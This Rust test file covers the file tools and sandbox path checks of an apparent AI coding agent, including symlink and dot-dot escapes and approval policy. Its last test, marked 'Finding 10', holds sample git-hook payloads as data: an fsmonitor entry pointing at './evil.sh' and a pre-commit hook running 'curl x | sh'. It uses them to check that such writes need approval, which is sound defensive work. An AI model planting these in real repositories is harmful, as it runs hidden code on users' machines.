#![allow(clippy::unwrap_used, clippy::expect_used)]
//! File tools and path resolution against a real temporary filesystem.

use std::path::{Path, PathBuf};

use pincer_core::tools::paths::resolve;
use pincer_core::tools::{Access, Tool, ToolError, ToolExt, ToolRegistry, ToolSettings};
use serde_json::{Value, json};

struct Workspace {
    _dir: tempfile::TempDir,
    root: PathBuf,
    settings: ToolSettings,
    tools: ToolRegistry,
}

impl Workspace {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let settings = ToolSettings::new(root.clone());
        Self {
            _dir: dir,
            root,
            settings,
            tools: ToolRegistry::builtin(),
        }
    }

    fn write(&self, rel: &str, content: &str) {
        let path = self.root.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.root.join(rel)).unwrap()
    }

    fn tool(&self, name: &str) -> &dyn Tool {
        self.tools.get(name).unwrap().as_ref()
    }

    async fn run(&self, name: &str, args: Value) -> Result<String, ToolError> {
        self.tool(name)
            .call(args, &self.settings)
            .await
            .map(|output| output.text)
    }

    fn access(&self, name: &str, args: Value) -> Result<Access, ToolError> {
        self.tool(name).access(&args, &self.settings)
    }
}

fn symlink(target: &Path, link: &Path) {
    std::os::unix::fs::symlink(target, link).unwrap();
}

// ---- paths ----

#[test]
fn relative_paths_resolve_inside() {
    let ws = Workspace::new();
    ws.write("src/main.rs", "");
    let r = resolve(&ws.settings, "src/main.rs").unwrap();
    assert_eq!(r.path, ws.root.join("src/main.rs"));
    assert!(r.inside);
    let r = resolve(&ws.settings, "./src/../new/file.txt").unwrap();
    assert_eq!(r.path, ws.root.join("new/file.txt"));
    assert!(r.inside);
    let r = resolve(&ws.settings, ".").unwrap();
    assert_eq!(r.path, ws.root);
    assert!(r.inside);
}

#[test]
fn protected_folders_are_outside_but_a_workspace_inside_one_is_not() {
    let root = tempfile::tempdir().unwrap();
    let root = root.path().canonicalize().unwrap();
    let home = root.join("data");
    std::fs::create_dir_all(home.join("workspace")).unwrap();
    // The default layout: the workspace is `<home>/workspace`.
    let mut settings = ToolSettings::new(home.join("workspace"));
    settings.protected = vec![home.clone()];
    assert!(resolve(&settings, "notes.md").unwrap().inside);
    assert!(!resolve(&settings, "../secrets.toml").unwrap().inside);
    // The workspace holds the data home (`~`).
    settings.workspace = root.clone();
    assert!(!resolve(&settings, "data/secrets.toml").unwrap().inside);
    assert!(!resolve(&settings, "data").unwrap().inside);
    assert!(
        !resolve(&settings, "data/workspace/notes.md")
            .unwrap()
            .inside
    );
    assert!(resolve(&settings, "data-other/x").unwrap().inside);
    // The workspace is the data home itself: nothing in it is inside.
    settings.workspace = home.clone();
    assert!(!resolve(&settings, "secrets.toml").unwrap().inside);
}

#[test]
fn own_output_is_readable_and_hard_links_are_not_writable() {
    let ws = Workspace::new();
    let mut settings = ws.settings.clone();
    let outputs = tempfile::tempdir().unwrap();
    let outputs = outputs.path().canonicalize().unwrap();
    settings.own_output = Some(outputs.clone());
    let saved = resolve(&settings, outputs.join("tc-1.txt").to_str().unwrap()).unwrap();
    assert!(!saved.inside);
    assert!(saved.readable_inside() && !saved.writable_inside());
    ws.write("one.txt", "x");
    let plain = resolve(&settings, "one.txt").unwrap();
    assert!(plain.readable_inside() && plain.writable_inside());
    std::fs::hard_link(ws.root.join("one.txt"), outputs.join("two.txt")).unwrap();
    let linked = resolve(&settings, "one.txt").unwrap();
    assert!(linked.hard_linked);
    assert!(linked.readable_inside() && !linked.writable_inside());
}

#[test]
fn dotdot_escapes_are_outside() {
    let ws = Workspace::new();
    let r = resolve(&ws.settings, "../escape.txt").unwrap();
    assert!(!r.inside);
    assert_eq!(r.path, ws.root.parent().unwrap().join("escape.txt"));
    let r = resolve(&ws.settings, "missing/dir/../../../escape.txt").unwrap();
    assert!(!r.inside);
    assert_eq!(r.path, ws.root.parent().unwrap().join("escape.txt"));
}

#[test]
fn absolute_paths_are_allowed() {
    let ws = Workspace::new();
    let inside = resolve(&ws.settings, ws.root.join("a.txt").to_str().unwrap()).unwrap();
    assert!(inside.inside);
    let outside = resolve(&ws.settings, "/etc/hostname").unwrap();
    assert!(!outside.inside);
    // `~` is a plain name, not the home directory.
    let tilde = resolve(&ws.settings, "~/x").unwrap();
    assert_eq!(tilde.path, ws.root.join("~/x"));
}

#[test]
fn symlink_escapes_are_outside() {
    let ws = Workspace::new();
    let outside = tempfile::tempdir().unwrap();
    let outside_root = outside.path().canonicalize().unwrap();
    std::fs::write(outside_root.join("secret.txt"), "s").unwrap();
    symlink(&outside_root, &ws.root.join("link"));

    for arg in ["link", "link/secret.txt", "link/not-yet-there.txt"] {
        let r = resolve(&ws.settings, arg).unwrap();
        assert!(!r.inside, "{arg} resolved inside: {}", r.path.display());
        assert!(r.path.starts_with(&outside_root));
    }
    // `..` after a symlink climbs from the real target, not from the link's folder.
    let r = resolve(&ws.settings, "link/../x").unwrap();
    assert_eq!(r.path, outside_root.parent().unwrap().join("x"));
    assert!(!r.inside);

    // A dangling link would let a write land outside.
    symlink(&outside_root.join("new.txt"), &ws.root.join("dangling"));
    let r = resolve(&ws.settings, "dangling").unwrap();
    assert_eq!(r.path, outside_root.join("new.txt"));
    assert!(!r.inside);
}

#[test]
fn symlink_within_workspace_stays_inside() {
    let ws = Workspace::new();
    ws.write("real/a.txt", "a");
    symlink(&ws.root.join("real"), &ws.root.join("alias"));
    let r = resolve(&ws.settings, "alias/a.txt").unwrap();
    assert_eq!(r.path, ws.root.join("real/a.txt"));
    assert!(r.inside);
}

#[test]
fn empty_path_is_invalid() {
    let ws = Workspace::new();
    assert!(matches!(
        resolve(&ws.settings, ""),
        Err(ToolError::InvalidArguments(_))
    ));
    assert!(matches!(
        ws.access("read_file", json!({"path": ""})),
        Err(ToolError::InvalidArguments(_))
    ));
}

#[test]
fn access_reports_resolved_paths() {
    let ws = Workspace::new();
    assert_eq!(
        ws.access("read_file", json!({"path": "a.txt"})).unwrap(),
        Access::Read {
            path: ws.root.join("a.txt"),
            inside: true
        }
    );
    assert_eq!(
        ws.access("write_file", json!({"path": "../b.txt", "content": ""}))
            .unwrap(),
        Access::Write {
            path: ws.root.parent().unwrap().join("b.txt"),
            inside: false,
            preview: None,
        }
    );
    assert_eq!(
        ws.access("list_dir", json!({})).unwrap(),
        Access::Read {
            path: ws.root.clone(),
            inside: true
        }
    );
    assert!(matches!(
        ws.access("read_file", json!({"file": "a.txt"})),
        Err(ToolError::InvalidArguments(_))
    ));
}

// ---- read_file ----

#[tokio::test]
async fn read_file_whole_and_range() {
    let ws = Workspace::new();
    ws.write("a.txt", "one\ntwo\nthree\nfour\n");
    assert_eq!(
        ws.run("read_file", json!({"path": "a.txt"})).await.unwrap(),
        "one\ntwo\nthree\nfour\n"
    );
    assert_eq!(
        ws.run(
            "read_file",
            json!({"path": "a.txt", "offset": 2, "limit": 2})
        )
        .await
        .unwrap(),
        "two\nthree\n"
    );
    assert_eq!(
        ws.run("read_file", json!({"path": "a.txt", "offset": 4}))
            .await
            .unwrap(),
        "four\n"
    );
    assert_eq!(
        ws.run("read_file", json!({"path": "a.txt", "limit": 1}))
            .await
            .unwrap(),
        "one\n"
    );
    let err = ws
        .run("read_file", json!({"path": "a.txt", "offset": 9}))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("past the end"), "{err}");
    assert!(matches!(
        ws.run("read_file", json!({"path": "a.txt", "offset": 0}))
            .await,
        Err(ToolError::InvalidArguments(_))
    ));
}

#[tokio::test]
async fn read_file_refuses_dirs_binaries_big_and_missing() {
    let mut ws = Workspace::new();
    ws.write("dir/x.txt", "x");
    std::fs::write(ws.root.join("bin"), b"abc\0def").unwrap();
    ws.write("big.txt", &"x".repeat(2000));

    let err = ws
        .run("read_file", json!({"path": "dir"}))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("is a directory"), "{err}");
    let err = ws
        .run("read_file", json!({"path": "bin"}))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("binary"), "{err}");
    let err = ws
        .run("read_file", json!({"path": "missing.txt"}))
        .await
        .unwrap_err();
    assert!(matches!(err, ToolError::Io { .. }), "{err}");

    ws.settings.read_limit = 1000;
    let err = ws
        .run("read_file", json!({"path": "big.txt"}))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("read limit"), "{err}");
}

// ---- write_file ----

#[tokio::test]
async fn write_file_creates_parents_and_overwrites() {
    let ws = Workspace::new();
    let out = ws
        .run(
            "write_file",
            json!({"path": "deep/er/f.txt", "content": "héllo"}),
        )
        .await
        .unwrap();
    assert_eq!(
        out,
        format!(
            "wrote 6 bytes to {}",
            ws.root.join("deep/er/f.txt").display()
        )
    );
    assert_eq!(ws.read("deep/er/f.txt"), "héllo");
    ws.run(
        "write_file",
        json!({"path": "deep/er/f.txt", "content": "new"}),
    )
    .await
    .unwrap();
    assert_eq!(ws.read("deep/er/f.txt"), "new");
    let err = ws
        .run("write_file", json!({"path": "deep", "content": "x"}))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("directory"), "{err}");
}

// ---- edit_file ----

#[tokio::test]
async fn edit_file_replaces_a_unique_match() {
    let ws = Workspace::new();
    ws.write("f.rs", "fn a() {}\nfn b() {}\n");
    let out = ws
        .run(
            "edit_file",
            json!({"path": "f.rs", "old_text": "fn b() {}", "new_text": "fn b() { 1 }"}),
        )
        .await
        .unwrap();
    assert!(out.contains("line 2"), "{out}");
    assert_eq!(ws.read("f.rs"), "fn a() {}\nfn b() { 1 }\n");
}

#[tokio::test]
async fn edit_file_requires_exactly_one_match() {
    let ws = Workspace::new();
    ws.write("f.txt", "x = 1\nx = 1\n");
    let err = ws
        .run(
            "edit_file",
            json!({"path": "f.txt", "old_text": "y = 2", "new_text": "z"}),
        )
        .await
        .unwrap_err();
    assert!(err.to_string().contains("found 0 times"), "{err}");
    let err = ws
        .run(
            "edit_file",
            json!({"path": "f.txt", "old_text": "x = 1", "new_text": "z"}),
        )
        .await
        .unwrap_err();
    assert!(
        err.to_string()
            .contains("found 2 times, add context to make it unique"),
        "{err}"
    );
    // Overlapping occurrences are ambiguous too.
    ws.write("g.txt", "aaa");
    let err = ws
        .run(
            "edit_file",
            json!({"path": "g.txt", "old_text": "aa", "new_text": "b"}),
        )
        .await
        .unwrap_err();
    assert!(err.to_string().contains("found 2 times"), "{err}");
    assert_eq!(ws.read("f.txt"), "x = 1\nx = 1\n");
    assert!(matches!(
        ws.run(
            "edit_file",
            json!({"path": "f.txt", "old_text": "", "new_text": "z"})
        )
        .await,
        Err(ToolError::InvalidArguments(_))
    ));
}

// ---- list_dir ----

#[tokio::test]
async fn list_dir_sorted_with_markers_and_sizes() {
    let ws = Workspace::new();
    ws.write("b.txt", "12345");
    ws.write("a/inner.txt", "");
    ws.write("c.md", "");
    let out = ws.run("list_dir", json!({})).await.unwrap();
    assert_eq!(out, "a/\nb.txt (5 bytes)\nc.md (0 bytes)\n");
    let out = ws.run("list_dir", json!({"path": "a"})).await.unwrap();
    assert_eq!(out, "inner.txt (0 bytes)\n");
    let err = ws
        .run("list_dir", json!({"path": "b.txt"}))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("not a directory"), "{err}");
}

// ---- find_files ----

#[tokio::test]
async fn find_files_globs_and_respects_gitignore() {
    let ws = Workspace::new();
    ws.write(".gitignore", "target/\n*.log\n");
    ws.write("src/main.rs", "");
    ws.write("src/tools/mod.rs", "");
    ws.write("build.rs", "");
    ws.write("target/debug/gen.rs", "");
    ws.write("x.log", "");
    ws.write("README.md", "");

    let out = ws
        .run("find_files", json!({"pattern": "**/*.rs"}))
        .await
        .unwrap();
    assert_eq!(out, "build.rs\nsrc/main.rs\nsrc/tools/mod.rs\n");
    // No slash: matches names at any depth.
    let out = ws
        .run("find_files", json!({"pattern": "mod.rs"}))
        .await
        .unwrap();
    assert_eq!(out, "src/tools/mod.rs\n");
    // With a slash: relative to the search root; paths still shown relative to the workspace.
    let out = ws
        .run("find_files", json!({"pattern": "*.rs", "path": "src"}))
        .await
        .unwrap();
    assert_eq!(out, "src/main.rs\nsrc/tools/mod.rs\n");
    let out = ws
        .run(
            "find_files",
            json!({"pattern": "tools/*.rs", "path": "src"}),
        )
        .await
        .unwrap();
    assert_eq!(out, "src/tools/mod.rs\n");
    let out = ws
        .run("find_files", json!({"pattern": "*.log"}))
        .await
        .unwrap();
    assert!(out.starts_with("no files match"), "{out}");
    assert!(matches!(
        ws.run("find_files", json!({"pattern": "a[b"})).await,
        Err(ToolError::InvalidArguments(_))
    ));
}

#[tokio::test]
async fn find_files_caps_results() {
    let ws = Workspace::new();
    for i in 0..1005 {
        std::fs::write(ws.root.join(format!("f{i:04}.txt")), "").unwrap();
    }
    let out = ws
        .run("find_files", json!({"pattern": "*.txt"}))
        .await
        .unwrap();
    assert_eq!(out.lines().filter(|l| l.ends_with(".txt")).count(), 1000);
    assert!(
        out.contains("first 1000 of 1005"),
        "{}",
        &out[out.len() - 200..]
    );
}

// ---- grep ----

#[tokio::test]
async fn grep_finds_lines_and_respects_gitignore() {
    let ws = Workspace::new();
    ws.write(".gitignore", "ignored/\n");
    ws.write("src/a.rs", "fn main() {\n    let needle = 1;\n}\n");
    ws.write("notes.md", "a needle here\nnothing\n");
    ws.write("ignored/b.rs", "needle\n");
    std::fs::write(ws.root.join("blob.bin"), b"needle\0\x01").unwrap();

    let out = ws.run("grep", json!({"pattern": "needle"})).await.unwrap();
    assert_eq!(
        out,
        "notes.md:1:a needle here\nsrc/a.rs:2:    let needle = 1;\n"
    );
    let out = ws
        .run("grep", json!({"pattern": "needle", "glob": "*.rs"}))
        .await
        .unwrap();
    assert_eq!(out, "src/a.rs:2:    let needle = 1;\n");
    let out = ws
        .run("grep", json!({"pattern": "(?i)NEEDLE", "path": "notes.md"}))
        .await
        .unwrap();
    assert_eq!(out, "notes.md:1:a needle here\n");
    let out = ws.run("grep", json!({"pattern": "absent"})).await.unwrap();
    assert!(out.starts_with("no matches"), "{out}");
    assert!(matches!(
        ws.run("grep", json!({"pattern": "("})).await,
        Err(ToolError::InvalidArguments(_))
    ));
}

#[tokio::test]
async fn grep_reads_offloaded_output_in_hidden_folder() {
    let ws = Workspace::new();
    ws.write(".pincer/tool-output/call_1.txt", "line one\nline two\n");
    // Hidden folders are skipped when walking, but an explicit path is searched.
    let out = ws.run("grep", json!({"pattern": "two"})).await.unwrap();
    assert!(out.starts_with("no matches"), "{out}");
    let out = ws
        .run(
            "grep",
            json!({"pattern": "two", "path": ".pincer/tool-output/call_1.txt"}),
        )
        .await
        .unwrap();
    assert_eq!(out, ".pincer/tool-output/call_1.txt:2:line two\n");
    let out = ws
        .run(
            "grep",
            json!({"pattern": "two", "path": ".pincer/tool-output"}),
        )
        .await
        .unwrap();
    assert_eq!(out, ".pincer/tool-output/call_1.txt:2:line two\n");
}

#[tokio::test]
async fn grep_caps_matches() {
    let ws = Workspace::new();
    ws.write("many.txt", &"hit\n".repeat(600));
    let out = ws.run("grep", json!({"pattern": "hit"})).await.unwrap();
    assert_eq!(
        out.lines().filter(|l| l.starts_with("many.txt:")).count(),
        500
    );
    assert!(out.contains("stopped at 500 matches"), "{out}");
}

// ---- registry ----

#[test]
fn builtin_registry_has_all_tools_with_strict_schemas() {
    let tools = ToolRegistry::builtin();
    let names: Vec<_> = tools.names().collect();
    assert_eq!(
        names,
        [
            "edit_file",
            "exec",
            "find_files",
            "grep",
            "list_dir",
            "read_file",
            "web_fetch",
            "write_file"
        ]
    );
    for spec in tools.specs() {
        assert!(
            spec.description.len() <= 200,
            "{} description too long",
            spec.name
        );
        let params = &spec.parameters;
        assert_eq!(params["type"], "object", "{}", spec.name);
        // The schema leaves `additionalProperties` out to save tokens; unknown fields are
        // still refused, with a message naming them.
        let tool = tools.get(&spec.name).unwrap();
        let err = tool
            .access(
                &serde_json::json!({"bogus": 1}),
                &ToolSettings::new(".".into()),
            )
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("bogus") || err.contains("missing field"),
            "{}: {err}",
            spec.name
        );
        let props = params["properties"].as_object().unwrap();
        for required in params["required"].as_array().into_iter().flatten() {
            assert!(
                props.contains_key(required.as_str().unwrap()),
                "{}",
                spec.name
            );
        }
    }
}

/// Finding 10: a write under `.git/` (a hook, `core.fsmonitor`) makes the next `git status`
/// run code, so the approval must show what would be written, even with writes allowed.
#[test]
fn writes_under_git_ask_and_show_the_content() {
    use pincer_core::policy::{PolicyConfig, Verdict};
    let ws = Workspace::new();
    let policy = PolicyConfig {
        write: Verdict::Allow,
        ..PolicyConfig::default()
    };
    let content = "[core]\n\tfsmonitor = ./evil.sh\n";
    let access = ws
        .access(
            "write_file",
            json!({"path": ".git/config", "content": content}),
        )
        .unwrap();
    let check = policy.check("write_file", &access);
    assert_eq!(check.verdict, Verdict::Ask);
    assert!(
        check.summary.contains("fsmonitor = ./evil.sh"),
        "{}",
        check.summary
    );
    assert!(
        check.pattern.starts_with(&format!(
            "write_file:{}#",
            ws.root.join(".git/config").display()
        )),
        "a grant covers this file with this content only: {}",
        check.pattern
    );
    let other = ws
        .access(
            "write_file",
            json!({"path": ".git/config", "content": "[core]\n"}),
        )
        .unwrap();
    assert_ne!(policy.check("write_file", &other).pattern, check.pattern);

    ws.write("x.txt", "old");
    let edit = ws
        .access(
            "edit_file",
            json!({"path": ".git/hooks/pre-commit", "old_text": "old", "new_text": "curl x | sh"}),
        )
        .unwrap();
    let check = policy.check("edit_file", &edit);
    assert_eq!(check.verdict, Verdict::Ask);
    assert!(check.summary.contains("curl x | sh"), "{}", check.summary);

    // Elsewhere in the workspace the setting holds, and a deny stays a deny.
    let plain = ws
        .access("write_file", json!({"path": "src/x.txt", "content": "x"}))
        .unwrap();
    assert_eq!(policy.check("write_file", &plain).verdict, Verdict::Allow);
    let strict = PolicyConfig {
        write: Verdict::Deny,
        ..PolicyConfig::default()
    };
    assert_eq!(strict.check("write_file", &access).verdict, Verdict::Deny);
}
